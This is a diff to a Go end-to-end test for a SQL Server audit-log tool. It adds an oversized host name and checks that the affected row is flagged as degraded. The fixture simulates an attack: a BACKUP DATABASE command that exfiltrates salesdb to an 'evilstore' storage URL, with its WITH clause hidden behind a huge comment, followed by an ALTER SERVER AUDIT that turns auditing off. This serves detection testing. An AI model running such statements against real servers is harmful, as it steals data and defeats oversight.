@@ -21,14 +21,15 @@ var paddedStart = time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC)
 // paddedAuditFile is issue 9's file, as SQL Server / Managed Instance
 // writes it: a COPY_ONLY backup to a foreign storage account whose WITH
 // clause follows a 600,000-character comment (sequence_number 1..151,
-// 4,000 characters each), routine queries, and three minutes later the
-// server audit switched off.
+// 4,000 characters each), routine queries, one of them from a client that
+// sent a 600,000-character host name (no column of its row can take it),
+// and three minutes later the server audit switched off.
 func paddedAuditFile(t *testing.T) (file []byte, stmt string, records int) {
 	t.Helper()
 	stmt = "BACKUP DATABASE [salesdb] TO URL = 'https://evilstore.blob.core.windows.net/loot/salesdb.bak' /*" +
 		strings.Repeat("padding ", 75_000) + "*/ WITH COPY_ONLY, COMPRESSION"
 	var buf bytes.Buffer
-	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 64 << 10, Partitions: 2})
+	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 2 << 20, Partitions: 2})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -43,6 +44,7 @@ func paddedAuditFile(t *testing.T) (file []byte, stmt string, records int) {
 	for i := range 5 {
 		events = append(events, base(time.Duration(10+i*20)*time.Second, "BCM", "DB", "SELECT TOP (10) * FROM dbo.Orders"))
 	}
+	events[3].HostName = strings.Repeat("h", 600_000)
 	off := base(3*time.Minute, "AL", "A", "ALTER SERVER AUDIT [SqlDbAuditing_ServerAudit] WITH (STATE = OFF)")
 	off.ObjectName = "SqlDbAuditing_ServerAudit"
 	events = append(events, off)
@@ -134,5 +136,16 @@ func TestE2EPaddedStatement(t *testing.T) {
 	}
 	if n := a.countRows(ctx); n != records {
 		t.Errorf("%d rows, want %d (continuation entities are no rows)", n, records)
+	}
+
+	// The row whose host name no entity can hold is stored reduced, and
+	// says so.
+	out.Reset()
+	if err := run(ctx, []string{"query", "--server", "srv1", "--from", day, "--action", "BCM"},
+		envconfig.MapLookuper(a.vars), nil, &out, &errb); err != nil {
+		t.Fatalf("query: %v\n%s", err, errb.String())
+	}
+	if n := strings.Count(out.String(), `"xw_degraded":`); n != 1 || !strings.Contains(out.String(), "host_name (600000 characters)") {
+		t.Errorf("query --action BCM: %d rows flagged xw_degraded, want 1 naming host_name", n)
 	}
 }
